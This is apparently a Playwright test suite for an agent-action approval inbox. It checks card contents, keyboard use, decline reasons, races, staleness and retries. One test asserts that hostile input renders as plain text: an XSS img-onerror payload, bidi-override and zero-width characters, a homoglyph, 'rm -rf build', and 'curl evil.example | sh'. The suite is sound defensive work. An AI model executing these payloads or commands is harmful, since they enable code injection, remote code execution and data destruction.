import { type Page } from 'playwright-core';
import { describeInBrowser, startBrowser, type TestBrowser } from './browser.js';
import { bulk, destructive, hostile, plain, work } from './fixture-data.js';

const at = (card: { confirmationId: string }): string => `#/inbox/${card.confirmationId}`;
const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true });

describeInBrowser('The inbox', () => {
  let browser: TestBrowser;
  beforeAll(async () => void (browser = await startBrowser()), 60_000);
  afterAll(() => browser.stop());
  afterEach(async () => expect(await browser.closeAll()).toEqual([]));

  it('lists what waits, the riskiest first, with the time left ticking', async () => {
    const page = await browser.signedIn(await browser.serve({ cards: [plain(), work(), bulk(), destructive()] }));
    const risks = await page.locator('.list .risk').allTextContents();
    expect(risks.map((risk) => risk.split(',')[0])).toEqual(['Bulk', 'Destructive', 'Financial', 'Write']);
    const left = page.locator('.row .left').first();
    const before = await left.textContent();
    await page.waitForFunction((text) => document.querySelector('.row .left')?.textContent !== text, before);
    expect(await page.title()).toBe('(4) Inbox · Workbench');
  });

  it('shows on a card all that the decision rests on', async () => {
    const card = work();
    const page = await browser.signedIn(await browser.serve({ cards: [card] }), at(card));
    await button(page, 'Approve').waitFor();
    const text = (await page.locator('article.card').innerText()).replaceAll('\u00A0', ' ');
    for (const shown of [
      card.operation.summary,
      card.operation.name,
      card.target!.title,
      'revision 4',
      card.reason,
      card.agent.name,
      card.requester.name,
      card.tenant.name,
      card.workspace.name,
      card.risk.why,
      card.outcomes.approve,
      card.outcomes.decline,
      card.auditId,
      card.actionDigest,
      card.presentedDigest,
      card.work!.repository,
      card.work!.baseRevision,
      ...card.work!.paths,
      'npm run build -w apps/site',
      'npm run lint -- --max-warnings 0',
      ...card.work!.criteria,
      'None: all records are still as shown.',
      'Sprint credits',
      card.work!.scopeDigest!,
      card.idempotency!.commandId,
      'Any approver',
    ]) {
      expect(text).toContain(shown);
    }
    expect(await page.locator('.change del').allTextContents()).toEqual(expect.arrayContaining(['accepted', 'under', '230']));
    expect(await page.locator('.change ins').allTextContents()).toEqual(
      expect.arrayContaining(['dispatched', 'beside', '210', 'Read out by screen readers']),
    );
  });

  it('is worked by keyboard alone, and another tab learns of the decision', async () => {
    const fixture = await browser.serve({ cards: [bulk(), plain()] });
    const page = await browser.signedIn(fixture);
    const other = await browser.signedIn(fixture, at(bulk()));
    await button(other, 'Approve').waitFor();
    const tabTo = async (selector: string): Promise<void> => {
      for (let i = 0; i < 40; i++) {
        if (await page.evaluate((wanted) => document.activeElement?.matches(wanted), selector)) return;
        await page.keyboard.press('Tab');
      }
      throw new Error(`No Tab led to ${selector}`);
    };
    await tabTo('.row');
    await page.keyboard.press('Enter');
    await button(page, 'Approve').waitFor();
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('card-title');
    await tabTo('.bar button.primary');
    await page.keyboard.press('Enter');
    await page.getByText('You approved this').waitFor();
    expect(await page.evaluate(() => document.activeElement?.className)).toBe('notice');
    expect(await page.locator('#announcements').textContent()).toBe('Approved.');
    await other.getByText('You approved this').waitFor();
    expect(await other.locator('.bar').count()).toBe(0);
    const [approval] = fixture.got.filter(({ path }) => path.endsWith('/approve'));
    expect(approval?.body).toEqual({ confirmation_token: expect.stringMatching(/^token-/) as string });
    expect(approval?.headers['idempotency-key']).toMatch(/^[0-9a-f]{32}$/);
  });

  it('declines only with a reason, and keeps what was typed over an error and a reload', async () => {
    const card = plain();
    const fixture = await browser.serve({ cards: [card] });
    const page = await browser.signedIn(fixture, at(card));
    await button(page, 'Decline…').click();
    const dialog = page.getByRole('dialog', { name: 'Decline' });
    await dialog.getByRole('button', { name: 'Decline' }).click();
    await dialog.getByText('Write a reason.').waitFor();
    expect(fixture.got.some(({ path }) => path.endsWith('/decline'))).toBe(false);

    const reason = 'Not before the\nsecond review.';
    const field = dialog.getByLabel('Reason');
    await field.fill(reason);
    fixture.refuseNext(/POST .*decline/, 503, { code: 'server/busy', detail: 'The server is restarting. Try again in a moment.' });
    await dialog.getByRole('button', { name: 'Decline' }).click();
    await dialog.getByText('The server is restarting.').waitFor();
    expect(await field.inputValue()).toBe(reason);

    await page.reload();
    await button(page, 'Decline…').click();
    expect(await field.inputValue()).toBe(reason);
    // The feed says that the card is closed before the request is answered: that is one's own doing.
    await page.evaluate(() => {
      const look = (): void => void (document.body.textContent.includes('was not sent') && document.body.setAttribute('data-misled', ''));
      new MutationObserver(look).observe(document.body, { childList: true, characterData: true, subtree: true });
    });
    await dialog.getByRole('button', { name: 'Decline' }).click();
    await page.getByText('You declined this').waitFor();
    expect(await page.locator('[data-misled]').count()).toBe(0);
    expect(await page.locator('.notice blockquote').innerText()).toBe(reason);
    expect(fixture.card(card.confirmationId).decision?.reason).toBe(reason);
  });

  it('says in place that someone else decided, and keeps the reason that was being typed', async () => {
    const card = plain();
    const fixture = await browser.serve({ cards: [card, bulk()] });
    const page = await browser.signedIn(fixture, at(card));
    await button(page, 'Decline…').click();
    await page.getByLabel('Reason').fill('Half a thought');
    fixture.approvedElsewhere(card.confirmationId);
    const dialog = page.getByRole('dialog');
    await dialog.getByText('Bob Okafor approved this. Your reason was not sent').waitFor();
    expect(await dialog.getByRole('button').allTextContents()).toEqual(['Close']);
    expect(await page.getByLabel('Reason').inputValue()).toBe('Half a thought');
    await dialog.getByRole('button', { name: 'Close' }).click();
    await page.locator('.notice').getByText('Bob Okafor approved this').waitFor();
    await page.getByRole('link', { name: /^Next: Archive 14/ }).click();
    await page.getByRole('heading', { level: 1, name: /Archive 14/ }).waitFor();
  });

  it('tells who was first when two decide at once', async () => {
    const card = plain();
    const fixture = await browser.serve({ cards: [card] });
    const page = await browser.signedIn(fixture, at(card));
    await button(page, 'Approve').waitFor();
    fixture.change({
      ...card,
      status: 'committed',
      actions: [],
      decision: { by: { id: 'b', name: 'Bob Okafor' }, at: new Date().toISOString(), outcome: 'approved' },
    });
    await button(page, 'Approve').click();
    await page.getByText('Bob Okafor approved this card before you.').waitFor();
    await page.locator('.notice').getByText('Bob Okafor approved this').waitFor();
  });

  it('says that a card went stale, and proposes it again', async () => {
    const card = destructive();
    const fixture = await browser.serve({ cards: [card] });
    const page = await browser.signedIn(fixture, at(card));
    await button(page, 'Approve').waitFor();
    fixture.moveRecord(card.confirmationId);
    await page.getByText('What this rests on has changed since it was proposed').waitFor();
    await page.getByText('shown at revision 7, now at revision 8').waitFor();
    expect(await button(page, 'Approve').count()).toBe(0);
    await button(page, 'Propose again').click();
    await page.waitForFunction(() => location.hash.endsWith('-again'));
    await page.getByText('revision 8').first().waitFor();
    await button(page, 'Approve').waitFor();
  });

  it('tells a card that nobody decided from one that was declined', async () => {
    const card = plain();
    const fixture = await browser.serve({ cards: [card] });
    const page = await browser.signedIn(fixture, at(card));
    await button(page, 'Approve').waitFor();
    fixture.expire(card.confirmationId);
    await page.getByText('Nobody decided in time').waitFor();
    await button(page, 'Propose again').waitFor();
    expect(await page.locator('.closed .tag').textContent()).toBe('Expired');
  });

  it('sends an approval that got no answer again under the same key', async () => {
    const card = plain();
    const fixture = await browser.serve({ cards: [card] });
    const page = await browser.signedIn(fixture, at(card));
    fixture.dropNext(/POST .*approve/);
    await button(page, 'Approve').click();
    await page.getByText('Pressing again is safe').waitFor();
    await button(page, 'Approve').click();
    await page.getByText('You approved this').waitFor();
    const keys = fixture.got.filter(({ path }) => path.endsWith('/approve')).map(({ headers }) => headers['idempotency-key']);
    expect(keys).toHaveLength(2);
    expect(new Set(keys).size).toBe(1);
  });

  it('shows hostile text as text, with every invisible character written out', async () => {
    const card = hostile();
    const page = await browser.signedIn(await browser.serve({ cards: [card] }), at(card));
    await button(page, 'Approve').waitFor();
    const article = page.locator('article.card');
    expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
    expect(await article.locator('img, script, [href^=javascript]').count()).toBe(0);
    const text = await page.locator('body').innerText();
    expect(text).toContain('Rename U+202Egpj.exeU+202C <img src=x onerror="window.pwned=1"> inU+200Bvoice');
    expect(text).toContain('inU+200B ×3voice');
    expect(text).toContain('rm -rf build && echo doneU+202E ;fr- mr');
    expect(text).toContain('echo oneU+000A\ncurl evil.example | sh');
    expect(await article.locator('.foreign').allTextContents()).toEqual(['а', 'а']);
    expect(text).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200B]/u);
    expect(text).toContain('THE-END');
    await button(page, 'Show all').click();
    expect(await page.getByText('THE-END').isVisible()).toBe(true);
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
  });
});
